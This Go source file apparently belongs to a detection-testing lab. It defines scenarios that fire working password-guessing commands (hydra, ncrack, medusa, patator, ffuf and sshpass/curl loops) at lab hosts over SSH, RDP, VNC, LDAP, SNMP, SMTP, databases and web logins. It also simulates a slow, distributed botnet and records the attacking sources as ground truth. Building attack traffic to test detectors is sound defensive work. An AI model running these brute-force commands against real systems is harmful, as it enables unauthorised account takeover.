package lab

import (
	"context"
	"fmt"
	"net/netip"
	"sync"
	"time"

	"firetower/internal/attack"
)

// otherGuesses: more services, scripts of people's own, many sources, much patience.
func otherGuesses() []Scenario {
	long := func(s Scenario) Scenario { s.Limit = 240 * time.Second; return s }
	const loop = "while read p; do %s; done < WORDS"
	each := func(command string) string { return fmt.Sprintf(loop, command) }
	const web = attack.WebAttack
	return []Scenario{
		guessing("hydra-vnc", "vnc", "hydra -I -t 2 -P WORDS vnc://VICTIM"),
		guessing("ncrack-vnc", "vnc", "ncrack -P WORDS vnc://VICTIM:5900"),
		guessing("rdp-loop", "rdp", each("timeout 4 xfreerdp /v:VICTIM /u:USER /p:$p +auth-only /cert:ignore /log-level:ERROR")),
		guessing("ncrack-rdp", "rdp", "ncrack --user USER -P WORDS rdp://VICTIM:3389"),
		guessing("hydra-ldap", "ldap", "hydra -I -t TASKS -l cn=admin,dc=lab -P WORDS ldap2://VICTIM"),
		guessing("ldap-loop", "ldap", each("ldapwhoami -x -H ldap://VICTIM -D cn=USER,dc=lab -w $p; sleep 0.3")),
		guessing("hydra-sip", "sip", "hydra -I -t 1 -l 100 -P WORDS sip://VICTIM"),
		guessing("sip-guess", "sip", "SIP guess VICTIM 100 WORDS 0.2 60"),
		guessing("onesixtyone", "snmp", "onesixtyone -c WORDS -w 100 VICTIM"),
		guessing("hydra-snmp", "snmp", "hydra -I -t TASKS -P WORDS snmp://VICTIM"),
		guessing("nmap-snmp", "snmp", "nmap -n -Pn -sU -p 161 --script snmp-brute --script-args snmp-brute.communitiesdb=WORDS VICTIM", attack.PortScan),
		guessing("hydra-smtp", "mail", "hydra -I -t TASKS -l USER -P WORDS smtp://VICTIM"),
		guessing("patator-smtp", "mail", "patator smtp_login host=VICTIM user=USER password=FILE0 0=WORDS -t TASKS"),
		guessing("hydra-basic", "portal", "hydra -I -t TASKS -l admin -P WORDS http-get://VICTIM/admin/", web),
		guessing("medusa-basic", "portal", "medusa -h VICTIM -u admin -P WORDS -M http -m DIR:/admin/ -t TASKS", web),
		guessing("curl-digest", "portal", each("curl -s -o /dev/null --digest -u admin:$p http://VICTIM/private/"), web),
		guessing("wp-form", "portal", "WPGUESS form http://VICTIM admin WORDS 0.3", web),
		guessing("wp-rpc", "portal", "WPGUESS rpc http://VICTIM admin WORDS 0.3", web),
		guessing("wp-multicall", "portal", "WPGUESS multicall http://VICTIM admin WORDS 0.5", web),
		guessing("api-login", "portal", "ffuf -s -t TASKS -p 0.2 -w WORDS -u http://VICTIM/api/login -X POST -H 'Content-Type: application/json' -d '{\"user\":\"admin\",\"password\":\"FUZZ\"}' -mc 200", web),
		guessing("mqtt-loop", "mqtt", each("mosquitto_sub -h VICTIM -u admin -P $p -t '#' -C 1 -W 1")),
		guessing("redis-loop", "redis", each("redis-cli -h VICTIM -a $p --no-auth-warning ping")),
		guessing("psql-loop", "postgres", each("PGPASSWORD=$p psql -h VICTIM -U postgres -c 'select 1'")),
		guessing("mysql-loop", "mariadb", each("mariadb --skip-ssl -h VICTIM -u root -p$p -e 'select 1'")),
		guessing("paramiko", "ssh", "SSHGUESS VICTIM USER WORDS 3 0.5"),
		guessing("paramiko-single", "ssh", "SSHGUESS VICTIM USER WORDS 1 1.5"),
		guessing("hydra-dropbear", "dropbear", "hydra -I -t TASKS -l USER -P WORDS ssh://VICTIM"),
		guessing("curl-ftp", "ftp", each("curl -s -m 5 -u USER:$p ftp://VICTIM/; sleep 0.5")),
		guessing("telnet-loop", "telnet", each("(sleep 1; echo USER; sleep 0.5; echo $p; sleep 2) | timeout 5 telnet VICTIM")),
		guessing("few-ssh", "ssh", "head -12 WORDS | while read p; do sshpass -p $p ssh "+sshOptions+" -o NumberOfPasswordPrompts=1 USER@VICTIM true; sleep 1; done"),
		long(guessing("patient-ssh", "ssh", each("sshpass -p $p ssh "+sshOptions+" -o NumberOfPasswordPrompts=1 USER@VICTIM true; sleep $((18 + ${#p}))"))),
		long(guessing("patient-form", "portal", each("curl -s -o /dev/null -d \"log=admin&pwd=$p\" http://VICTIM/wp-login.php; sleep $((12 + ${#p}))"), web)),
		{Name: "many-sources-ssh", Class: attack.BruteForce, Limit: 60 * time.Second, Play: func(ctx context.Context, r *Run) error {
			return guessTogether(ctx, r, r.Files, "sshpass -p PASSWORD ssh "+sshOptions+" -b SOURCE -o NumberOfPasswordPrompts=1 USER@VICTIM true")
		}},
		{Name: "many-sources-form", Class: attack.BruteForce, Also: []attack.Class{web}, Limit: 60 * time.Second, Play: func(ctx context.Context, r *Run) error {
			return guessTogether(ctx, r, r.Shop, "curl -s -o /dev/null --interface SOURCE -d 'user=USER&password=PASSWORD' http://VICTIM/login")
		}},
	}
}

// guessTogether is a network of machines that each try two or three passwords.
func guessTogether(ctx context.Context, r *Run, victim *Host, line string) error {
	h, err := r.host(ctx, "botnet", false)
	if err != nil {
		return err
	}
	base := [4]byte{198, 18, byte(r.IntN(64) * 4), 0}
	if err := h.Own(ctx, netip.PrefixFrom(netip.AddrFrom4(base), 22)); err != nil {
		return err
	}
	r.against(victim)
	r.note(fmt.Sprintf("2-3 tries each by 20 sources: %s", line))
	var wg sync.WaitGroup
	for range 20 {
		source := netip.AddrFrom4([4]byte{base[0], base[1], base[2] + byte(r.IntN(4)), byte(r.between(2, 250))})
		r.Truth.Attackers = append(r.Truth.Attackers, source)
		own := r.fork()
		wg.Go(func() {
			pause(ctx, own.seconds(0, 35))
			for range own.between(2, 3) {
				user := Users[own.IntN(len(Users))]
				h.Shell(ctx, "%s", replace(line, "SOURCE", source.String(), "USER", user.Name, "PASSWORD", own.pick("123456", "password", "qwerty1", "admin", "letmein1"), "VICTIM", victim.Addr.String()))
				pause(ctx, own.seconds(1, 6))
			}
		})
	}
	wg.Wait()
	return nil
}
